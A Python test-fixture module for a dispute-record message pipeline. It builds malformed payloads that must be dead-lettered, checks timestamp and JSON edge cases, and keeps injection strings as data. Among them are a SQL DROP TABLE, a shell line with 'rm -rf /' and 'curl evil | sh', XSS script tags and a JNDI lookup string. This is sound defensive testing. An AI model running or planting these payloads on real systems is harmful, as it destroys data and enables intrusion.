"""Hostile input, hand-picked: messages every consumer must dead-letter with a reason, and odd text it must keep verbatim."""

import json
from typing import Any

# Personal data planted in every hostile message: no reason may repeat it.
PLANTED_PHONE = "13912345678"
PLANTED_NAME = "欧阳某某"

# Text that is valid and must come out exactly as it went in: injections are data, not code.
ODD_TEXT = [
    ("SQL", "'); DROP TABLE triage_processed; -- 1=1"),
    ("shell", "$(rm -rf /) `reboot` && curl evil | sh"),
    ("HTML", "<script>alert('x')</script><img src=x onerror=alert(1)>"),
    ("templates", "{{7*7}} ${jndi:ldap://x/a} {% raw %} #{1+1}"),
    ("tabs and line breaks", "第一行\n第二行\r\n\t缩进"),
    ("right-to-left marks", "\u202e\u200f反向\u202c\u2066隔离\u2069"),
    ("emoji", "吵架😡👨‍👩‍👧‍👦🏳️‍🌈"),
    ("CJK extensions", "𠀀𪚥𫝀𬺰𰻝"),
]


def _json(payload: Any) -> bytes:
    return json.dumps(payload, ensure_ascii=False, allow_nan=True).encode()


def _with(payload: dict, **changes: Any) -> bytes:
    return _json(payload | changes)


def bad_messages(valid: dict, number_field: str, time_field: str, text_field: str) -> list[tuple[str, bytes]]:
    """Return (case, bytes) pairs built around one valid payload of the topic; every one must be dead-lettered.

    `number_field` is an integer field, `time_field` a timestamp, `text_field` a bounded string.
    """
    planted = f"{PLANTED_NAME} {PLANTED_PHONE}"
    without_first = {k: v for k, v in list(valid.items())[1:]}
    # A work order or a timer is named by its own id: the NUL goes there when no event id does.
    id_field = "event_id" if "event_id" in valid else next(k for k in valid if k.endswith("_id"))
    return [
        ("random bytes", bytes(range(256)) * 4),
        ("invalid UTF-8", _json(valid)[:-1] + b', "x": "\xff\xfe\xc3\x28"}'),
        ("empty", b""),
        ("only whitespace", b"   \n"),
        ("10 MB", b'{"padding": "' + b"a" * (10 * 1024 * 1024) + b'"}'),
        ("deeply nested", b"[" * 100_000 + b"]" * 100_000),
        ("nested object", _with(valid, **{text_field: json.loads("[" * 50 + "1" + "]" * 50)})),
        ("not an object", b"[1, 2, 3]"),
        ("null", b"null"),
        ("huge number", _with(valid, **{number_field: 10**40})),
        ("negative number", _with(valid, **{number_field: -1})),
        ("NaN", _with(valid, **{number_field: float("nan")})),
        ("Infinity", _with(valid, **{number_field: float("inf")})),
        ("number as text", _with(valid, **{number_field: "1"})),
        ("wrong type", _with(valid, **{text_field: {"name": planted}})),
        ("missing field", _json(without_first)),
        ("extra field", _with(valid, admin=True, note_to_self=planted)),
        ("personal data as a field name", _with(valid, **{PLANTED_PHONE: 1, PLANTED_NAME: True})),
        ("naive time", _with(valid, **{time_field: "2026-03-02T09:30:00"})),
        ("time as a number", _with(valid, **{time_field: 1772400000})),
        ("oversized text", _with(valid, **{text_field: planted * 10_000})),
        # PostgreSQL cannot store NUL: the contract refuses it before any store sees it.
        ("NUL in the event id", _with(valid, **{id_field: f"{valid[id_field]}\u0000"})),
        ("NUL in text", _with(valid, **{text_field: "调解\u0000记录"})),
        ("control characters in text", _with(valid, **{text_field: "铃\u0007退格\u0008转义\u001b[31m红"})),
        ("10,000 parties", _with(valid, parties=[{"role": "complainant", "kind": "person", "name": PLANTED_NAME, "phone": PLANTED_PHONE}] * 10_000)),
        ("duplicate keys with a bad last value", _json(valid)[:-1] + f', "{number_field}": "{planted}"}}'.encode()),
    ]


# Timestamps as senders spell them, and whether the contracts take them: RFC 3339 section 5.6 exactly, the same
# verdict from the models and from the JSON Schemas (format date-time with its checker, and the pattern).
TIME_SPELLINGS = [
    ("offset", "2026-12-01T03:44:12+08:00", True),
    ("Z", "2026-12-01T03:44:12Z", True),
    ("lower-case t and z", "2026-12-01t03:44:12z", True),
    ("nanoseconds", "2026-12-01T03:44:12.123456789+08:00", True),
    ("unknown local offset", "2026-12-01T03:44:12-00:00", True),
    ("leap day", "2028-02-29T03:44:12+08:00", True),
    ("space for T", "2026-12-01 03:44:12+08:00", False),
    ("no seconds", "2026-12-01T03:44+08:00", False),
    ("offset without colon", "2026-12-01T03:44:12+0800", False),
    ("offset in hours only", "2026-12-01T03:44:12+08", False),
    ("naive", "2026-12-01T03:44:12", False),
    ("date only", "2026-12-01", False),
    ("30 February", "2026-02-30T03:44:12+08:00", False),
    ("29 February of a common year", "2026-02-29T03:44:12+08:00", False),
    ("31 April", "2026-04-31T03:44:12+08:00", False),
    ("hour 24", "2026-12-01T24:00:00Z", False),
    ("leap second", "2026-12-31T23:59:60Z", False),
    ("year 0000", "0000-12-01T03:44:12Z", False),
    ("comma before the fraction", "2026-12-01T03:44:12,5Z", False),
    ("empty fraction", "2026-12-01T03:44:12.Z", False),
    ("offset of a whole day", "2026-12-01T03:44:12+24:00", False),
    ("basic format", "20261201T034412Z", False),
    ("full-width digits", "２０２６-12-01T03:44:12Z", False),
    ("trailing newline", "2026-12-01T03:44:12+08:00\n", False),
    ("leading space", " 2026-12-01T03:44:12+08:00", False),
]

# (case, path to the field in a report, value, valid): identifiers, phones and numbers where the models and the
# JSON Schemas used to part: Python's `$` before a final newline, integers written 5.0, NaN that is not JSON.
REPORT_EDGES: list[tuple[str, tuple, Any, bool]] = [
    ("event id ending in a newline", ("event_id",), "evt-1\n", False),
    ("dispute id ending in a newline", ("dispute_id",), "D-2026-0001\n", False),
    ("grid id ending in a newline", ("region", "grid_id"), "G-1\n", False),
    ("phone ending in a newline", ("parties", 0, "phone"), PLANTED_PHONE + "\n", False),
    ("ID number ending in a newline", ("parties", 0, "id_number"), "330102199001011234\n", False),
    ("phone ending in a carriage return", ("parties", 0, "phone"), PLANTED_PHONE + "\r", False),
    ("masked phone", ("parties", 0, "phone"), "139****0001", True),
    ("masked ID number", ("parties", 0, "id_number"), "3301**********1234", True),
    ("description ending in a newline (text keeps line breaks)", ("description",), "两家吵架\n", True),
    ("party count written 5.0", ("party_count",), 5.0, True),
    ("party count 5.5", ("party_count",), 5.5, False),
    ("party count true", ("party_count",), True, False),
    ("age written 30.0", ("parties", 0, "age"), 30.0, True),
    ("history count written 2.0", ("history", "failed_mediations"), 2.0, True),
    ("amount as an integer", ("amount_cny",), 5, True),
    ("amount NaN", ("amount_cny",), float("nan"), False),
    ("amount Infinity", ("amount_cny",), float("inf"), False),
    ("amount -Infinity", ("amount_cny",), float("-inf"), False),
]


def _set(payload: Any, path: tuple, value: Any) -> Any:
    copy = json.loads(json.dumps(payload))
    node = copy
    for step in path[:-1]:
        node = node.setdefault(step, {}) if isinstance(node, dict) else node[step]
    node[path[-1]] = value
    return copy


def agreement_cases(valid: dict, number_field: str, time_field: str, text_field: str) -> list[tuple[str, bytes, bool]]:
    """Return (case, bytes, valid) around one valid payload: every bad message, each time spelling, JSON's edges."""
    head = _json(valid)[:-1]
    return (
        [("valid", _json(valid), True)]
        + [(case, value, False) for case, value in bad_messages(valid, number_field, time_field, text_field)]
        + [(f"time: {case}", _with(valid, **{time_field: text}), ok) for case, text, ok in TIME_SPELLINGS]
        + [
            # A lone surrogate is JSON by its grammar, yet no UTF-8 text: not I-JSON (RFC 7493), refused everywhere.
            ("lone surrogate in text", head + f', "{text_field}": "\\ud800"}}'.encode(), False),
            ("number written 1e400 (infinite)", head + f', "{number_field}": 1e400}}'.encode(), False),
            ("duplicate keys with a good last value", b'{"' + number_field.encode() + b'": "x", ' + _json(valid)[1:], True),
        ]
    )


def report_cases(valid: dict) -> list[tuple[str, bytes, bool]]:
    """Return (case, bytes, valid) for the report's own fields where the contracts used to disagree."""
    exponent = _json(valid)[:-1] + b', "party_count": 5e0}'
    return [(case, _json(_set(valid, path, value)), ok) for case, path, value, ok in REPORT_EDGES] + [
        ("party count written 5e0", exponent, True)
    ]


def assert_clean_reason(reason: str) -> None:
    """Check a dead letter's reason names a field before its colon and repeats none of the planted personal data."""
    field = reason.split(":", 1)[0]
    assert field and len(field) < 80 and ":" in reason, reason
    assert PLANTED_PHONE not in reason and PLANTED_NAME not in reason, reason
